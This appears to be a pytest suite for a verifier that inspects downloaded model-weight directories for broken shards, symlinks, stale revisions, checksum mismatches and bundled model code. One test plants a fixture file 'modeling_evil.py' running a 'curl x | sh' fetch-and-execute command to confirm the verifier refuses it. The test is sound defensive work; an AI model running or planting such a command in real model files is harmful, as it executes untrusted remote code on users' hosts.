"""The weights role's verification module, on model directories written by fleetctl.lab.models.

The module is loaded from roles/weights/library (it runs on hosts with the standard
library only); its pure function ``verify_dir`` is what these tests call.
"""

from __future__ import annotations

import json
import struct
from pathlib import Path
from typing import Any

import pytest

from fleetctl.lab import models
from tests.role_modules import load_role_file

BODY = "qwen36-35b-a3b-nvfp4"
DRAFTER = "qwen36-35b-a3b-dflash"


wv = load_role_file("weights", "library/weights_verify.py")


def verify(d: Path, role: str = "body", **kw: Any) -> dict[str, Any]:
    result: dict[str, Any] = wv.verify_dir(str(d), role, **kw)
    return result


def problems(report: dict[str, Any]) -> str:
    return " | ".join(f"{p['path']}: {p['problem']}" for p in report["problems"])


def test_good_body_and_drafter_pass_with_a_per_file_report(tmp_path: Path) -> None:
    body = models.write_model(tmp_path / "body", BODY)
    drafter = models.write_model(tmp_path / "drafter", DRAFTER)
    rb = verify(body)
    assert rb["ok"], problems(rb)
    shards = [f for f in rb["files"] if f["path"].endswith(".safetensors")]
    assert len(shards) == 3 and all(f["status"] == "ok" and f["tensors"] > 0 for f in shards)
    assert rb["bytes"] == sum(p.stat().st_size for p in body.iterdir())
    rd = verify(drafter, "drafter", min_date="2026-04-19")
    assert rd["ok"], problems(rd)


@pytest.mark.parametrize(
    ("variant", "kind", "role", "words"),
    [
        ("lfs-pointer", BODY, "body", "Git LFS pointer"),
        ("escaping-symlink", BODY, "body", "symlink leaving the directory"),
        ("missing-shard", BODY, "body", "named in model.safetensors.index.json but missing"),
        ("corrupt-header", BODY, "body", "no valid safetensors header"),
        ("misnested-vision", BODY, "body", "mis-nested as model.language_model.visual"),
        ("v1-keys", BODY, "body", "v1 key layout model.layers"),
        ("stale-drafter", DRAFTER, "drafter", "older than 2026-04-19"),
    ],
)
def test_each_broken_variant_is_refused_with_its_own_message(
    tmp_path: Path, variant: str, kind: str, role: str, words: str
) -> None:
    d = models.write_model(tmp_path / "m", kind, variant)
    r = verify(d, role, min_date="2026-04-19" if role == "drafter" else None)
    assert not r["ok"]
    assert words in problems(r), problems(r)
    # Each problem carries a fix the operator can act on.
    assert all(p["fix"] for p in r["problems"])
    # The good twin of the same kind passes, so the message is about the variant, not the kind.
    good = verify(
        models.write_model(tmp_path / "good", kind),
        role,
        min_date="2026-04-19" if role == "drafter" else None,
    )
    assert good["ok"], problems(good)


def test_revision_date_from_the_staging_source_file_wins(tmp_path: Path) -> None:
    d = models.write_model(tmp_path / "d", DRAFTER)
    (d / ".fleetctl-source.json").write_text(json.dumps({"revision_date": "2026-04-01"}))
    r = verify(d, "drafter", min_date="2026-04-19")
    assert "from 2026-04-01, older than 2026-04-19" in problems(r)
    # The marker files fleetctl writes are not part of the report.
    assert not any(f["path"].startswith(".fleetctl") for f in r["files"])


def test_truncated_shard_is_caught_by_its_offsets(tmp_path: Path) -> None:
    d = models.write_model(tmp_path / "m", BODY)
    shard = sorted(d.glob("*.safetensors"))[0]
    data = shard.read_bytes()
    shard.write_bytes(data[:-16])
    assert "fall outside" in problems(verify(d)) or "cover" in problems(verify(d))


def test_read_header_refuses_an_absurd_length(tmp_path: Path) -> None:
    p = tmp_path / "x.safetensors"
    p.write_bytes(struct.pack("<Q", 1 << 40) + b"{}")
    with pytest.raises(ValueError, match="does not fit"):
        wv.read_header(str(p), p.stat().st_size)


def test_manifest_sizes_and_checksums(tmp_path: Path) -> None:
    d = models.write_model(tmp_path / "m", BODY)
    manifest = models.manifest_for(d, repo="a/b", revision="r", revision_date=None)
    mpath = tmp_path / "manifest.json"
    mpath.write_text(json.dumps(manifest))
    assert verify(d, manifest=str(mpath), checksums=True)["ok"]
    # Same size, different bytes: only the checksum sees it.
    cfg = d / "tokenizer_config.json"
    text = cfg.read_bytes()
    cfg.write_bytes(text[:-2] + b" \n")
    assert verify(d, manifest=str(mpath))["ok"]
    assert "sha256 differs" in problems(verify(d, manifest=str(mpath), checksums=True))
    cfg.unlink()
    assert "in the manifest but missing" in problems(verify(d, manifest=str(mpath)))


def test_missing_directory_and_empty_directory(tmp_path: Path) -> None:
    assert "is not a directory" in problems(verify(tmp_path / "nope"))
    (tmp_path / "empty").mkdir()
    r = verify(tmp_path / "empty")
    assert "config.json: is missing" in problems(r) and "no *.safetensors" in problems(r)


def test_model_code_is_refused_unless_the_recipe_opted_in(tmp_path: Path) -> None:
    body = models.write_model(tmp_path / "body", BODY)
    (body / "modeling_evil.py").write_text("import os; os.system('curl x | sh')\n")
    config = json.loads((body / "config.json").read_text())
    (body / "config.json").write_text(
        json.dumps({**config, "auto_map": {"AutoModel": "modeling_evil.Model"}})
    )
    r = verify(body)
    assert not r["ok"]
    said = problems(r)
    assert "modeling_evil.py: is Python code" in said and "config.json: has an auto_map" in said
    assert all("trust_remote_code: true" in p["fix"] for p in r["problems"])
    opted_in = verify(body, allow_code=True)
    assert opted_in["ok"], problems(opted_in)
